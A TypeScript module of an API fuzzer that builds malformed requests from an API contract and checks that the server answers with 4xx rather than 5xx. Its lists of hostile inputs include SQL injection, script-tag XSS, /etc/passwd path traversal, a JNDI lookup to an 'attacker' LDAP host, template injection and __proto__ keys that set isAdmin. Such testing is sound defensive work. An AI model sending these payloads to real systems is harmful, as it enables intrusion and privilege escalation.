/**
 * Invalid requests made from a contract: for each operation of the IR (`@apilife/contract`), a
 * valid request is sampled from its schemas (`@apilife/mock`'s `sampleValue`) and then broken one
 * way at a time: wrong types, missing and extra fields, hostile strings, huge numbers, bad
 * encodings, `__proto__` keys, bad query and path parameters. Each variant says whether the
 * contract forbids it (`reject`: the answer must be 4xx) or only makes it hostile (`any`: any
 * answer but a 5xx). One seed makes the same requests again.
 */
import type { ApiIR, JsonValue, NamedSchema, ObjectSchema, OperationIR, ParameterIR, SchemaIR } from '@apilife/contract';
import { sampleValue } from '@apilife/mock';

/** One request to send. `body` is sent as is (bytes may be invalid UTF-8 on purpose). */
export interface FuzzRequest {
  operation: string;
  /** What was broken, e.g. `body.missing-required`. */
  kind: string;
  method: string;
  /** Path and query, percent-encoded. */
  target: string;
  headers: Record<string, string>;
  body?: Buffer;
  /** `reject`: the contract forbids it, so the answer must be 4xx; `any`: anything but a 5xx. */
  expect: 'reject' | 'any';
}

/** What a request is sent with besides what the contract says: credentials and fixed path values. */
export interface FuzzTarget {
  api: ApiIR;
  /** Headers of a caller the operation accepts (`authorization` or `x-api-key`). */
  credentials(operation: OperationIR): Record<string, string>;
  /** Values for path parameters by name (an existing account), else sampled ones. */
  pathValues?: Record<string, string>;
  /** Values of top-level body members by name (the caller's own `accountId`), so valid parts pass the handler's checks. */
  bodyValues?: Record<string, JsonValue>;
}

const HOSTILE_STRINGS = [
  'x'.repeat(100_000),
  'nul\u0000byte',
  '\u202Egnp.exe',
  "' OR 1=1; DROP TABLE deliveries; --",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  ['$', '{jndi:ldap://attacker/a}'].join(''),
  '{{7*7}}',
  '\uD800',
  '',
];
const HUGE_NUMBERS = ['1e308', '-0', '18446744073709551616', '1e400', '-1e308', '4.9e-324', '9007199254740993'];
const WRONG_VALUES: readonly JsonValue[] = [null, true, 42, 'text', [], {}];
const BAD_PATH_VALUES = [
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%00',
  '%ff%fe',
  '%c0%ae%c0%ae',
  '%zz',
  'a'.repeat(2_000),
  '%E2%80%AEgnp',
  "'%20OR%201%3D1--",
  '%3Cscript%3E',
  '-1',
  '1e308',
];

const BAD_QUERIES = [
  'a=%zz',
  'a=%ff%fe',
  '%00=1',
  'a[__proto__][x]=1',
  '__proto__=1',
  'constructor[prototype][x]=1',
  `a=${'b'.repeat(9_000)}`,
];

type Random = () => number;

/** Makes `count` invalid requests against `target`, spread evenly over its operations. */
export function fuzzRequests(target: FuzzTarget, count: number, random: Random): FuzzRequest[] {
  const schemas = new Map(target.api.schemas.map((s) => [s.name, s]));
  const operations = target.api.operations;
  const requests: FuzzRequest[] = [];
  for (let i = 0; requests.length < count; i++) {
    const operation = operations[i % operations.length]!;
    requests.push(variant(operation, target, schemas, random));
  }
  return requests;
}

const pick = <T>(items: readonly T[], random: Random): T => items[Math.floor(random() * items.length)]!;

function uuid(random: Random): string {
  const hex = Array.from({ length: 32 }, () => Math.floor(random() * 16).toString(16)).join('');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-8${hex.slice(17, 20)}-${hex.slice(20)}`;
}

/** A value the parameter's schema accepts (uuids random, so nothing exists under them). */
function validParameter(parameter: ParameterIR, schemas: ReadonlyMap<string, NamedSchema>, random: Random): string {
  const schema = resolve(parameter.schema, schemas);
  if (schema.kind === 'string' && schema.format === 'uuid') return uuid(random);
  const value = parameter.example ?? sampleValue(parameter.schema, schemas, { direction: 'request' });
  return typeof value === 'string' ? value : JSON.stringify(value);
}

/** The valid request an operation's variants start from. */
interface Base {
  path: Record<string, string>;
  query: Record<string, string>;
  headers: Record<string, string>;
  body?: JsonValue;
  mediaType?: string;
  bodySchema?: SchemaIR;
}

function base(operation: OperationIR, target: FuzzTarget, schemas: ReadonlyMap<string, NamedSchema>, random: Random): Base {
  const path: Record<string, string> = {};
  const query: Record<string, string> = {};
  const headers: Record<string, string> = { accept: 'application/json, application/problem+json', ...target.credentials(operation) };
  for (const parameter of operation.parameters) {
    if (parameter.in === 'path') path[parameter.name] = target.pathValues?.[parameter.name] ?? validParameter(parameter, schemas, random);
    else if (parameter.in === 'query' && parameter.required) query[parameter.name] = validParameter(parameter, schemas, random);
    else if (parameter.in === 'header' && parameter.required) {
      const lower = parameter.name.toLowerCase();
      headers[lower] =
        lower === 'if-match'
          ? `"fuzz-${uuid(random).slice(0, 8)}"`
          : lower === 'idempotency-key'
            ? uuid(random)
            : validParameter(parameter, schemas, random);
    }
  }
  const media = operation.requestBody?.contents.find((m) => m.json);
  if (!media) return { path, query, headers };
  let body = sampleValue(media.schema, schemas, { direction: 'request', random });
  if (isObject(body))
    for (const [name, value] of Object.entries(target.bodyValues ?? {})) if (Object.hasOwn(body, name)) body = { ...body, [name]: value };
  return { path, query, headers, body, mediaType: media.mediaType, bodySchema: media.schema };
}

function variant(operation: OperationIR, target: FuzzTarget, schemas: ReadonlyMap<string, NamedSchema>, random: Random): FuzzRequest {
  const b = base(operation, target, schemas, random);
  const kinds = [
    ...(b.body !== undefined ? BODY_KINDS : []),
    ...(Object.keys(b.path).length > 0 ? PATH_KINDS : []),
    ...QUERY_KINDS,
    ...(operation.parameters.some((p) => p.in === 'header' && p.required) ? ['header.missing-required'] : []),
  ];
  const kind = pick(kinds, random);
  const make = (over: Partial<Base> & { raw?: Buffer; contentType?: string; target?: string }, expect: FuzzRequest['expect']) => {
    const merged = { ...b, ...over };
    const headers = { ...merged.headers };
    let body: Buffer | undefined = over.raw;
    if (body === undefined && merged.body !== undefined) body = Buffer.from(JSON.stringify(merged.body));
    if (body !== undefined) headers['content-type'] = over.contentType ?? b.mediaType ?? 'application/json';
    return {
      operation: operation.operationId,
      kind,
      method: operation.method.toUpperCase(),
      target: over.target ?? targetOf(operation.path, merged.path, merged.query),
      headers,
      ...(body !== undefined ? { body } : {}),
      expect,
    };
  };
  const json = JSON.stringify(b.body ?? {});
  const top = b.bodySchema ? objectParts(b.bodySchema, schemas) : undefined;
  switch (kind) {
    case 'body.wrong-type-root':
      return make(
        {
          body: pick(
            WRONG_VALUES.filter((v) => !isObject(v)),
            random,
          ),
        },
        'reject',
      );
    case 'body.missing-required': {
      const required = top?.properties.filter((p) => p.required && !p.readOnly) ?? [];
      if (!isObject(b.body) || required.length === 0) return make({ raw: Buffer.alloc(0) }, 'reject');
      const { [pick(required, random).name]: _, ...rest } = b.body;
      return make({ body: rest }, 'reject');
    }
    case 'body.wrong-type-field': {
      const field = isObject(b.body) ? wrongTypeField(b.body, top, schemas, random) : undefined;
      return field ? make({ body: field }, 'reject') : make({ body: 'text' }, 'reject');
    }
    case 'body.extra-field': {
      const closed = top?.additionalProperties === false;
      return make(
        { body: { ...(b.body as object), [`unknown${Math.floor(random() * 1000)}`]: pick(WRONG_VALUES, random) } },
        closed ? 'reject' : 'any',
      );
    }
    case 'body.proto-key': {
      const key = pick(
        ['"__proto__":{"isAdmin":true,"status":"active"}', '"constructor":{"prototype":{"isAdmin":true}}', '"__proto__":null'],
        random,
      );
      return make(
        { raw: Buffer.from(json.length > 2 ? `{${key},${json.slice(1)}` : `{${key}}`) },
        top?.additionalProperties === false ? 'reject' : 'any',
      );
    }
    case 'body.hostile-string': {
      const hostile = pick(HOSTILE_STRINGS, random);
      return make({ body: replaceLeaf(b.body, (v) => typeof v === 'string', hostile, random) }, 'any');
    }
    case 'body.huge-number': {
      const marker = '"__huge__"';
      const replaced = JSON.stringify(replaceLeaf(b.body, (v) => typeof v === 'number', '__huge__', random));
      return make({ raw: Buffer.from(replaced.replace(marker, pick(HUGE_NUMBERS, random))) }, 'any');
    }
    case 'body.invalid-utf8':
      return make(
        {
          raw: Buffer.concat([
            Buffer.from(json.slice(0, -1)),
            Buffer.from(',"x":"'),
            Buffer.from([0xff, 0xfe, 0xc0, 0xaf]),
            Buffer.from('"}'),
          ]),
        },
        'reject',
      );
    case 'body.truncated':
      return make({ raw: Buffer.from(json.slice(0, Math.max(1, Math.floor(json.length * random())))) }, 'reject');
    case 'body.wrong-content-type':
      return make(
        {
          raw: Buffer.from(json),
          contentType: pick(
            ['text/plain', 'application/xml', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', 'json'],
            random,
          ),
        },
        'reject',
      );
    case 'body.bom':
      return make({ raw: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(json)]) }, 'any');
    case 'body.deep':
      return make({ raw: Buffer.from(`${'['.repeat(5_000)}${']'.repeat(5_000)}`) }, 'reject');
    case 'body.duplicate-keys':
      return make({ raw: Buffer.from(json.length > 2 ? `{${json.slice(1, -1)},${json.slice(1)}` : json) }, 'any');
    case 'path.hostile': {
      const name = pick(Object.keys(b.path), random);
      const raw = pick(BAD_PATH_VALUES, random);
      return make({ target: targetOf(operation.path, { ...b.path, [name]: '\u0000' }, b.query).replace('%00', raw) }, 'reject');
    }
    case 'query.bad-value': {
      const numeric = operation.parameters.filter(
        (p) => p.in === 'query' && ['integer', 'number', 'enum'].includes(resolve(p.schema, schemas).kind),
      );
      if (numeric.length === 0) return make({ query: { ...b.query, unknownParam: pick(HOSTILE_STRINGS.slice(1), random) } }, 'any');
      const parameter = pick(numeric, random);
      return make(
        { query: { ...b.query, [parameter.name]: pick(['abc', '-1', '1e308', '1;DROP', '', '0x10', '[]', 'NaN'], random) } },
        'reject',
      );
    }
    case 'query.missing-required': {
      const required = operation.parameters.filter((p) => p.in === 'query' && p.required);
      if (required.length === 0) return make({ target: `${targetOf(operation.path, b.path, b.query)}&%zz=%zz` }, 'any');
      const { [pick(required, random).name]: _, ...rest } = b.query;
      return make({ query: rest }, 'reject');
    }
    case 'query.bad-encoding':
      return make(
        {
          target: `${targetOf(operation.path, b.path, b.query)}${Object.keys(b.query).length ? '&' : '?'}${pick(BAD_QUERIES, random)}`,
        },
        'any',
      );
    case 'header.missing-required': {
      const names = operation.parameters.filter((p) => p.in === 'header' && p.required).map((p) => p.name.toLowerCase());
      const { [pick(names, random)]: _, ...rest } = b.headers;
      return make({ headers: rest }, 'reject');
    }
    default:
      return make({ headers: { ...b.headers, 'idempotency-key': 'k'.repeat(300) } }, 'any');
  }
}

const BODY_KINDS = [
  'body.wrong-type-root',
  'body.missing-required',
  'body.wrong-type-field',
  'body.wrong-type-field',
  'body.extra-field',
  'body.proto-key',
  'body.hostile-string',
  'body.hostile-string',
  'body.huge-number',
  'body.invalid-utf8',
  'body.truncated',
  'body.wrong-content-type',
  'body.bom',
  'body.deep',
  'body.duplicate-keys',
];
const PATH_KINDS = ['path.hostile', 'path.hostile'];
const QUERY_KINDS = ['query.bad-value', 'query.missing-required', 'query.bad-encoding'];

function targetOf(template: string, path: Record<string, string>, query: Record<string, string>): string {
  const filled = template.replace(/\{([^}]+)\}/g, (_, name: string) => encodeURIComponent(path[name] ?? ''));
  const search = new URLSearchParams(query).toString();
  return search ? `${filled}?${search}` : filled;
}

const isObject = (value: unknown): value is Record<string, JsonValue> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

/** The schema a `$ref` names (a few hops at most). */
function resolve(schema: SchemaIR, schemas: ReadonlyMap<string, NamedSchema>): SchemaIR {
  for (let i = 0; i < 8 && schema.kind === 'ref'; i++) {
    const named = schemas.get(schema.name);
    if (!named) break;
    schema = named.schema;
  }
  return schema;
}

/** The object an object schema (or an `allOf` of objects) describes, or undefined. */
function objectParts(schema: SchemaIR, schemas: ReadonlyMap<string, NamedSchema>): ObjectSchema | undefined {
  const resolved = resolve(schema, schemas);
  if (resolved.kind === 'object') return resolved;
  if (resolved.kind !== 'intersection') return undefined;
  const parts = resolved.parts.map((p) => objectParts(p, schemas)).filter((p): p is ObjectSchema => p !== undefined);
  if (parts.length === 0) return undefined;
  return {
    kind: 'object',
    properties: parts.flatMap((p) => p.properties),
    additionalProperties: !parts.some((p) => p.additionalProperties === false),
  };
}

/** JSON types a schema accepts, when it is plain enough to say (no unions, no `any`). */
function typesOf(schema: SchemaIR, schemas: ReadonlyMap<string, NamedSchema>): Set<string> | undefined {
  const resolved = resolve(schema, schemas);
  switch (resolved.kind) {
    case 'string':
    case 'boolean':
    case 'array':
    case 'object':
    case 'null':
      return new Set([resolved.kind]);
    case 'number':
    case 'integer':
      return new Set(['number']);
    case 'enum':
      return new Set(resolved.values.map(jsonType));
    case 'intersection':
      return objectParts(resolved, schemas) ? new Set(['object']) : undefined;
    default:
      return undefined;
  }
}

const jsonType = (value: JsonValue): string => (value === null ? 'null' : Array.isArray(value) ? 'array' : typeof value);

/** `body` with one property (at the top or one level down) given a value of a type its schema does not allow. */
function wrongTypeField(
  body: Record<string, JsonValue>,
  schema: ObjectSchema | undefined,
  schemas: ReadonlyMap<string, NamedSchema>,
  random: Random,
): Record<string, JsonValue> | undefined {
  const candidates = (schema?.properties ?? []).filter((p) => !p.readOnly && Object.hasOwn(body, p.name) && typesOf(p.schema, schemas));
  if (candidates.length === 0) return undefined;
  const property = pick(candidates, random);
  const inner = objectParts(property.schema, schemas);
  const value = body[property.name]!;
  if (inner && isObject(value) && random() < 0.5) {
    const nested = wrongTypeField(value, inner, schemas, random);
    if (nested) return { ...body, [property.name]: nested };
  }
  const allowed = typesOf(property.schema, schemas)!;
  const wrong = WRONG_VALUES.filter((v) => !allowed.has(jsonType(v)));
  return { ...body, [property.name]: pick(wrong, random) };
}

/** `value` with one leaf matching `match` (chosen at random) replaced by `by`. */
function replaceLeaf(value: JsonValue | undefined, match: (v: JsonValue) => boolean, by: JsonValue, random: Random): JsonValue {
  const paths: (string | number)[][] = [];
  const collect = (v: JsonValue, at: (string | number)[]) => {
    if (match(v)) paths.push(at);
    else if (Array.isArray(v)) v.forEach((item, i) => collect(item, [...at, i]));
    else if (isObject(v)) for (const [k, item] of Object.entries(v)) collect(item, [...at, k]);
  };
  if (value === undefined) return by;
  collect(value, []);
  if (paths.length === 0) return isObject(value) ? { ...value, hostile: by } : by;
  const chosen = pick(paths, random);
  const copy = structuredClone(value);
  if (chosen.length === 0) return by;
  let at: JsonValue = copy;
  for (const key of chosen.slice(0, -1)) at = (at as Record<string | number, JsonValue>)[key]!;
  (at as Record<string | number, JsonValue>)[chosen.at(-1)!] = by;
  return copy;
}
